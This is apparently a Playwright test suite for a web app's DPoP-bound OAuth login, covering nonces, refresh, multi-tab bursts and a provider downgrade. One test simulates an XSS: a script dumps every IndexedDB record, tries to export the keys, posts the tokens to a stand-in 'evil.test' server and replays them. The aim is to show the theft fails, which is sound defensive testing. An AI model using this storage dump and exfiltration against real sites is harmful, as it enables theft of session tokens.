// The worker's login with DPoP (issue 13): oidc-provider with the client registered for DPoP-bound
// tokens and a nonce required at its token endpoint; the API (bearer-sw/server through the stack
// verifier) accepts DPoP-bound tokens only and requires its own nonces. Asserted on what the provider
// and the API received, and on what a page script can find in IndexedDB and do with it elsewhere.
import { request as httpRequest } from 'node:http';
import type { Page } from '@playwright/test';
import { calculateJwkThumbprint, decodeJwt, decodeProtectedHeader, exportJWK, generateKeyPair, SignJWT, type JWK } from 'jose';
import type { ApiVerification } from '../stack/api-verifier.js';
import { pageFetch, stopAllWorkers } from './support/fixtures.js';
import { eventsOf, expect, register, test } from './support/login-fixtures.js';
import { startRecordingServer, type ReceivedRequest } from './support/recording-server.js';

test.use({ dpop: true });

const verificationOf = (r: ReceivedRequest) => r.verification as ApiVerification | null;

/** Every record of every IndexedDB database of the page's origin, as an XSS would read them; CryptoKeys described, export attempted. */
function readEveryRecord(page: Page) {
  return page.evaluate(async () => {
    type KeyReport = { cryptoKey: true; type: string; extractable: boolean; algorithm: unknown; exported: Record<string, string> };
    const describe = async (value: unknown): Promise<unknown> => {
      if (value instanceof CryptoKey) {
        const exported: Record<string, string> = {};
        for (const format of ['jwk', 'pkcs8', 'raw', 'spki'] as const) {
          try {
            const data = await crypto.subtle.exportKey(format, value);
            exported[format] = data instanceof ArrayBuffer ? `bytes:${data.byteLength}` : JSON.stringify(data);
          } catch (error) {
            exported[format] = `refused: ${(error as Error).name}`;
          }
        }
        const report: KeyReport = { cryptoKey: true, type: value.type, extractable: value.extractable, algorithm: value.algorithm, exported };
        return report;
      }
      if (Array.isArray(value)) return Promise.all(value.map(describe));
      if (typeof value === 'object' && value !== null) {
        const entries = await Promise.all(Object.entries(value).map(async ([k, v]) => [k, await describe(v)] as const));
        return Object.fromEntries(entries);
      }
      return value;
    };
    const loot: Array<{ database: string; store: string; key: unknown; value: unknown }> = [];
    for (const info of await indexedDB.databases()) {
      if (info.name === undefined) continue;
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(info.name as string);
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error);
      });
      for (const store of Array.from(db.objectStoreNames)) {
        const [keys, values] = await new Promise<[IDBValidKey[], unknown[]]>((resolve, reject) => {
          const tx = db.transaction(store, 'readonly');
          const keysRequest = tx.objectStore(store).getAllKeys();
          const valuesRequest = tx.objectStore(store).getAll();
          tx.oncomplete = () => resolve([keysRequest.result, valuesRequest.result]);
          tx.onerror = () => reject(tx.error);
        });
        for (let i = 0; i < keys.length; i += 1) loot.push({ database: info.name, store, key: keys[i], value: await describe(values[i]) });
      }
      db.close();
    }
    return loot;
  });
}

/** Strings under `name` anywhere in `value`. */
function collect(value: unknown, name: string, found: string[] = []): string[] {
  if (Array.isArray(value)) for (const item of value) collect(item, name, found);
  else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) {
      if (key === name && typeof item === 'string') found.push(item);
      else collect(item, name, found);
    }
  }
  return found;
}

/** The descriptions of CryptoKeys anywhere in `value` (see readEveryRecord). */
function collectKeys(value: unknown, found: Array<{ type: string; extractable: boolean; exported: Record<string, string> }> = []) {
  if (Array.isArray(value)) for (const item of value) collectKeys(item, found);
  else if (typeof value === 'object' && value !== null) {
    if ((value as { cryptoKey?: unknown }).cryptoKey === true) found.push(value as (typeof found)[number]);
    else for (const item of Object.values(value)) collectKeys(item, found);
  }
  return found;
}

/** A DPoP proof signed with a key of the attacker's own. */
async function attackerProof(key: CryptoKeyPair, jwk: JWK, claims: { htm: string; htu: string; ath?: string; nonce?: string }): Promise<string> {
  return new SignJWT({ ...claims, jti: crypto.randomUUID() })
    .setProtectedHeader({ typ: 'dpop+jwt', alg: 'ES256', jwk })
    .setIssuedAt()
    .sign(key.privateKey);
}

const sha256 = async (text: string) => Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text))).toString('base64url');

/** A request from Node to the API as a client elsewhere would send it (Host: the API's name). */
function nodeRequest(url: string, port: number, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, string> }> {
  const target = new URL(url);
  return new Promise((resolve, reject) => {
    const request = httpRequest({ host: '127.0.0.1', port, path: target.pathname, method: 'GET', headers: { ...headers, host: target.host } }, (response) => {
      response.resume();
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers as Record<string, string> }));
    });
    request.on('error', reject);
    request.end();
  });
}

test.describe('login with DPoP', () => {
  test('the code exchange, API requests and refresh carry proofs; nonces from the provider and the API; the key cannot be exported', async ({ openApp, world }) => {
    const a = await openApp();
    await register(a);
    await world.logIn(a, { username: 'dora' });
    expect(await a.evaluate(() => window.harness.state())).toBe('authenticated');

    // The provider asked for its nonce, the worker retried once with it: both with a proof; tokens DPoP-bound.
    expect(world.provider.record.tokenRequests.map(({ grantType, status, dpop, error }) => ({ grantType, status, dpop, error }))).toEqual([
      { grantType: 'authorization_code', status: 400, dpop: true, error: 'use_dpop_nonce' },
      { grantType: 'authorization_code', status: 200, dpop: true, error: undefined },
    ]);
    const [issued] = world.provider.record.issued;
    expect(issued?.tokenType).toBe('DPoP');

    // The stored key: a non-extractable ES256 private key that exportKey refuses; its thumbprint is the tokens' cnf.jkt.
    const loot = await readEveryRecord(a);
    const session = loot.find((r) => r.store === 'session')?.value as {
      tokens: { dpopKey: { privateKey: { extractable: boolean; exported: Record<string, string> }; publicKey: { exported: Record<string, string> }; publicJwk: JWK } };
    };
    expect(session.tokens.dpopKey.privateKey.extractable).toBe(false);
    for (const format of ['jwk', 'pkcs8']) expect(session.tokens.dpopKey.privateKey.exported[format]).toMatch(/^refused: InvalidAccessError/);
    const publicJwk = JSON.parse(session.tokens.dpopKey.publicKey.exported['jwk'] ?? '{}') as JWK;
    const jkt = await calculateJwkThumbprint(publicJwk, 'sha256');
    expect((decodeJwt(issued?.accessToken ?? '') as { cnf?: { jkt?: string } }).cnf?.jkt).toBe(jkt);
    // Stored with the pair for the proofs' header (a restarted worker exports nothing): the public key's own members, nothing private.
    expect(session.tokens.dpopKey.publicJwk).toMatchObject({ kty: 'EC', crv: 'P-256', x: publicJwk.x, y: publicJwk.y });
    expect(session.tokens.dpopKey.publicJwk).not.toHaveProperty('d');

    // An API call: the API asks for its nonce, the worker retries once with it; DPoP scheme, proof verified, key matches.
    const first = await pageFetch(a, `${world.audience}/v1/items?page=2#top`);
    expect(first).toMatchObject({ ok: true, status: 200 });
    const seen = world.api.requests((r) => r.url.startsWith('/v1/items'));
    expect(seen.map((r) => verificationOf(r)?.ok === false ? (verificationOf(r) as { code: string }).code : 'ok')).toEqual(['use-dpop-nonce', 'ok']);
    for (const r of seen) {
      expect(r.headers['authorization']).toBe(`DPoP ${issued?.accessToken}`);
      const proof = r.headers['dpop'] ?? '';
      expect(decodeProtectedHeader(proof)).toMatchObject({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty: 'EC', crv: 'P-256', x: publicJwk.x, y: publicJwk.y } });
      expect(decodeJwt(proof)).toMatchObject({ htm: 'GET', htu: `${world.audience}/v1/items`, ath: await sha256(issued?.accessToken ?? '') });
    }
    expect(decodeJwt(seen[0]?.headers['dpop'] ?? '').nonce).toBeUndefined();
    expect(typeof decodeJwt(seen[1]?.headers['dpop'] ?? '').nonce).toBe('string');
    expect(verificationOf(seen[1] as ReceivedRequest)).toMatchObject({ ok: true, scheme: 'DPoP', jkt, sub: 'dora' });

    // The API rotates its nonce: a POST is retried once with the new one, its body replayed.
    world.rotateApiNonce();
    const post = await pageFetch(a, `${world.audience}/v1/notes`, { method: 'POST', body: 'a note', headers: { 'content-type': 'text/plain' } });
    expect(post).toMatchObject({ ok: true, status: 200 });
    const posts = world.api.requests((r) => r.url === '/v1/notes');
    expect(posts.map((r) => [r.body, verificationOf(r)?.ok])).toEqual([['a note', false], ['a note', true]]);
    expect(decodeJwt(posts[1]?.headers['dpop'] ?? '')).toMatchObject({ htm: 'POST', htu: `${world.audience}/v1/notes` });

    // Every proof has a fresh jti.
    const jtis = world.api.requests().map((r) => decodeJwt(r.headers['dpop'] ?? '').jti);
    expect(new Set(jtis).size).toBe(jtis.length);

    // The API refuses the access token (as after a revocation): the worker refreshes with a proof and retries.
    world.rejectAtApi(issued?.accessToken ?? '');
    expect(await pageFetch(a, `${world.audience}/v1/after-refresh`)).toMatchObject({ ok: true, status: 200 });
    const refreshes = world.provider.record.tokenRequests.filter((r) => r.grantType === 'refresh_token');
    expect(refreshes.at(-1)).toMatchObject({ status: 200, dpop: true });
    expect(refreshes.every((r) => r.dpop)).toBe(true);
    const refreshed = world.provider.record.issued.at(-1);
    expect(refreshed).toMatchObject({ grantType: 'refresh_token', tokenType: 'DPoP' });
    expect((decodeJwt(refreshed?.accessToken ?? '') as { cnf?: { jkt?: string } }).cnf?.jkt).toBe(jkt);
    const after = world.api.requests((r) => r.url === '/v1/after-refresh').at(-1);
    expect(after?.headers['authorization']).toBe(`DPoP ${refreshed?.accessToken}`);
    expect(after && verificationOf(after)).toMatchObject({ ok: true, scheme: 'DPoP', jkt });
  });

  test("a stopped worker signs with the stored pair: its stored public JWK, or, for a pair stored without one (an older session), its exported public key", async ({ context, openApp, world }) => {
    const a = await openApp();
    await register(a);
    await world.logIn(a, { username: 'dora' });
    const jkt = (decodeJwt(world.provider.record.issued.at(-1)?.accessToken ?? '') as { cnf?: { jkt?: string } }).cnf?.jkt;
    const stored = collectKeys(await readEveryRecord(a)).find((key) => key.type === 'public');
    const { x, y } = JSON.parse(stored?.exported['jwk'] ?? '{}') as JWK;
    const answered = (path: string) => world.api.requests((r) => r.url === path).map((r) => [verificationOf(r)?.ok === true ? (verificationOf(r) as { jkt: string }).jkt : 'refused', decodeProtectedHeader(r.headers['dpop'] ?? '').jwk]);

    await stopAllWorkers(context);
    expect(await pageFetch(a, `${world.audience}/v1/after-stop`)).toMatchObject({ ok: true, status: 200 });
    // The nonce memory went with the worker: the API asks again, the retry carries it; both proofs with the stored key.
    expect(answered('/v1/after-stop')).toEqual([['refused', { kty: 'EC', crv: 'P-256', x, y }], [jkt, { kty: 'EC', crv: 'P-256', x, y }]]);

    // The record as a session from before the public JWK was kept with the pair.
    const stripped = await a.evaluate(async () => {
      for (const info of await indexedDB.databases()) {
        const db = await new Promise<IDBDatabase>((resolve, reject) => {
          const open = indexedDB.open(info.name as string);
          open.onsuccess = () => resolve(open.result);
          open.onerror = () => reject(open.error);
        });
        if (!db.objectStoreNames.contains('session')) {
          db.close();
          continue;
        }
        const done = await new Promise<boolean>((resolve, reject) => {
          const tx = db.transaction('session', 'readwrite');
          const store = tx.objectStore('session');
          const get = store.get('current');
          get.onsuccess = () => {
            const record = get.result as { tokens: { dpopKey: { publicJwk?: unknown } } };
            const had = record.tokens.dpopKey.publicJwk !== undefined;
            delete record.tokens.dpopKey.publicJwk;
            store.put(record, 'current');
            tx.oncomplete = () => resolve(had);
          };
          tx.onerror = () => reject(tx.error);
        });
        db.close();
        return done;
      }
      return false;
    });
    expect(stripped).toBe(true);
    await stopAllWorkers(context);
    expect(await pageFetch(a, `${world.audience}/v1/older-record`)).toMatchObject({ ok: true, status: 200 });
    expect(answered('/v1/older-record').at(-1)).toEqual([jkt, { kty: 'EC', crv: 'P-256', x, y }]);
  });

  test('a new key for each session: after logout, the next login binds its tokens to another key', async ({ openApp, world }) => {
    const a = await openApp();
    await register(a);
    await world.logIn(a, { username: 'dora' });
    const jktOf = (token: string | undefined) => (decodeJwt(token ?? '') as { cnf?: { jkt?: string } }).cnf?.jkt;
    const firstJkt = jktOf(world.provider.record.issued.at(-1)?.accessToken);
    const firstRefreshToken = world.provider.record.issued.at(-1)?.refreshToken;
    expect(await a.evaluate(() => window.harness.logout())).toMatchObject({ ok: true });
    // Logout revokes the DPoP-bound refresh token at the provider (RFC 7009 needs no proof).
    expect(world.provider.record.revocations.map((r) => [r.token, r.status])).toEqual([[firstRefreshToken, 200]]);
    const cleared = await readEveryRecord(a);
    expect(collect(cleared, 'accessToken')).toEqual([]);
    expect(JSON.stringify(cleared)).not.toContain('"cryptoKey":true');
    await world.logIn(a, { username: 'dora' });
    const secondJkt = jktOf(world.provider.record.issued.at(-1)?.accessToken);
    expect(firstJkt).toEqual(expect.any(String));
    expect(secondJkt).toEqual(expect.any(String));
    expect(secondJkt).not.toBe(firstJkt);
    expect(await pageFetch(a, `${world.audience}/v1/second-session`)).toMatchObject({ ok: true, status: 200 });
  });

  test('3 tabs × 30 requests through a nonce rotation and a refused token: one refresh, every request answered 200', async ({ openApp, world }) => {
    const a = await openApp();
    await register(a);
    await world.logIn(a, { username: 'dora' });
    const b = await openApp(undefined, '?tab=b');
    await register(b);
    const c = await openApp(undefined, '?tab=c');
    await register(c);
    expect(await pageFetch(a, `${world.audience}/v1/warm`)).toMatchObject({ ok: true, status: 200 });

    const before = world.provider.stats.refreshGrants;
    world.rejectAtApi(world.provider.record.issued.at(-1)?.accessToken ?? '');
    world.rotateApiNonce();
    const results = await Promise.all(
      [a, b, c].map((tab, t) =>
        tab.evaluate(
          ([origin, t]) => window.harness.fetchMany(Array.from({ length: 30 }, (_, i) => `${origin}/v1/burst/${t}/${i}`)),
          [world.audience, t] as const,
        ),
      ),
    );
    const statuses = results.flat().map((r) => (r.ok ? r.status : -1));
    expect(statuses).toHaveLength(90);
    expect(statuses.every((s) => s === 200), JSON.stringify(statuses)).toBe(true);
    expect(world.provider.stats.refreshGrants - before).toBe(1);
    const fresh = world.provider.record.issued.at(-1)?.accessToken;
    const answered = world.api.requests((r) => r.url.startsWith('/v1/burst/') && verificationOf(r)?.ok === true);
    expect(answered).toHaveLength(90);
    expect(answered.every((r) => r.headers['authorization'] === `DPoP ${fresh}`)).toBe(true);
  });

  test('theft is useless: what a page script finds in IndexedDB is refused at the provider and at the API, with or without a proof of its own; the tab keeps working', async ({ openApp, world }) => {
    const a = await openApp();
    await register(a);
    await world.logIn(a, { username: 'dora' });
    expect(await pageFetch(a, `${world.audience}/v1/before-theft`)).toMatchObject({ ok: true, status: 200 });

    // The XSS: read every record of the origin's databases and send it to a server of the attacker's.
    const evil = await startRecordingServer();
    try {
      const loot = await readEveryRecord(a);
      const sent = await pageFetch(a, `${evil.origin('evil.test')}/loot`, { method: 'POST', body: JSON.stringify(loot), headers: { 'content-type': 'text/plain' } });
      expect(sent).toMatchObject({ ok: true, status: 200 });
      const received = JSON.parse(evil.requests((r) => r.url === '/loot')[0]?.body ?? 'null') as unknown;
      const [accessToken] = collect(received, 'accessToken');
      const [refreshToken] = collect(received, 'refreshToken');
      expect(accessToken).toBe(world.provider.record.issued.at(-1)?.accessToken);
      expect(refreshToken).toBe(world.provider.record.issued.at(-1)?.refreshToken);
      // The private key arrived as a description only: exportKey refused every format.
      const keys = collectKeys(received).filter((key) => key.type === 'private');
      expect(keys).toHaveLength(1);
      expect(keys[0]?.extractable).toBe(false);
      for (const format of ['jwk', 'pkcs8']) expect(keys[0]?.exported[format]).toMatch(/^refused: /);

      // The attacker (Node) tries the refresh token at the provider: without a proof, then with a proof of its own key (nonce obtained first).
      const attacker = await generateKeyPair('ES256');
      const jwk = await exportJWK(attacker.publicKey);
      const grant = (headers: Record<string, string>) =>
        fetch(world.provider.tokenEndpoint, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
          body: new URLSearchParams({ grant_type: 'refresh_token', client_id: world.provider.clientId, refresh_token: refreshToken ?? '' }),
        });
      const noProof = await grant({});
      expect(noProof.status).toBe(400);
      const challenged = await grant({ dpop: await attackerProof(attacker, jwk, { htm: 'POST', htu: world.provider.tokenEndpoint }) });
      const providerNonce = challenged.headers.get('dpop-nonce') ?? '';
      expect(providerNonce).not.toBe('');
      const ownKey = await grant({ dpop: await attackerProof(attacker, jwk, { htm: 'POST', htu: world.provider.tokenEndpoint, nonce: providerNonce }) });
      const ownKeyBody = (await ownKey.json()) as { error?: string; access_token?: string };
      expect(ownKey.status).toBe(400);
      expect(ownKeyBody.error).toBe('invalid_grant');
      expect(ownKeyBody.access_token).toBeUndefined();

      // ... and the access token at the API: as Bearer, as DPoP without a proof, with a proof of its own key (with the API's nonce).
      const url = `${world.audience}/v1/stolen`;
      const apiPort = Number(new URL(world.audience).port);
      const asBearer = await nodeRequest(url, apiPort, { authorization: `Bearer ${accessToken}` });
      const withoutProof = await nodeRequest(url, apiPort, { authorization: `DPoP ${accessToken}` });
      const ath = await sha256(accessToken ?? '');
      const nonceAsked = await nodeRequest(url, apiPort, { authorization: `DPoP ${accessToken}`, dpop: await attackerProof(attacker, jwk, { htm: 'GET', htu: url, ath }) });
      const apiNonce = nonceAsked.headers['dpop-nonce'] ?? '';
      const withOwnProof = await nodeRequest(url, apiPort, { authorization: `DPoP ${accessToken}`, dpop: await attackerProof(attacker, jwk, { htm: 'GET', htu: url, ath, nonce: apiNonce }) });
      expect([asBearer.status, withoutProof.status, withOwnProof.status]).toEqual([401, 401, 401]);
      const stolen = world.api.requests((r) => r.url === '/v1/stolen').map((r) => verificationOf(r));
      expect(stolen.map((v) => (v?.ok === false ? v.code : 'ok'))).toEqual(['bound-token-as-bearer', 'missing-proof', 'use-dpop-nonce', 'key-mismatch']);

      // The real tab goes on: its requests pass, and its refresh token still refreshes (with its own key).
      expect(await pageFetch(a, `${world.audience}/v1/after-theft`)).toMatchObject({ ok: true, status: 200 });
      world.rejectAtApi(accessToken ?? '');
      expect(await pageFetch(a, `${world.audience}/v1/after-theft-refresh`)).toMatchObject({ ok: true, status: 200 });
      expect(world.provider.record.issued.at(-1)).toMatchObject({ grantType: 'refresh_token', tokenType: 'DPoP' });
    } finally {
      await evil.close();
    }
  });
});

test.describe('a provider that ignores the proof', () => {
  test.use({ providerIgnoresDpop: true });

  test('Bearer tokens in answer to a proof: the login fails, no session, nothing sent as DPoP', async ({ openApp, world }) => {
    const page = await openApp();
    await register(page);
    await world.logIn(page);
    await expect.poll(() => eventsOf(page, 'login-failed')).toEqual([expect.objectContaining({ code: 'login-exchange-failed', state: 'unauthenticated' })]);
    const [failed] = await eventsOf(page, 'login-failed');
    expect(failed?.message).toContain('token_type is not DPoP');
    // The provider did get a proof, and answered with a Bearer token.
    expect(world.provider.record.tokenRequests).toEqual([expect.objectContaining({ grantType: 'authorization_code', status: 200, dpop: true })]);
    expect(world.provider.record.issued.map((t) => t.tokenType)).toEqual(['Bearer']);
    expect(await page.evaluate(() => window.harness.state())).toBe('unauthenticated');
    expect(await pageFetch(page, `${world.audience}/v1/after-downgrade`)).toMatchObject({ ok: true, status: 401 });
    expect(world.api.requests((r) => r.url === '/v1/after-downgrade').map((r) => r.token)).toEqual([null]);
  });
});
